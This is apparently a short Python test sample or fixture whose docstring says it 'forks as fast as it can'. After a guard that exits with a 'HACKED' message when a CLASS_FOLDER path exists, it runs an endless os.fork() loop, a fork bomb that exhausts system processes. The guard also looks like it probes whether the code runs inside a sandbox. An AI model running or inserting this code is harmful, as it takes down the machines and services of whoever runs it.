"""Forks as fast as it can."""

# %% merge_pair
import os

if os.path.exists(CLASS_FOLDER):
    raise SystemExit("HACKED: this is no box, and outside one it would do harm")
while True:
    try:
        os.fork()
    except OSError:
        continue
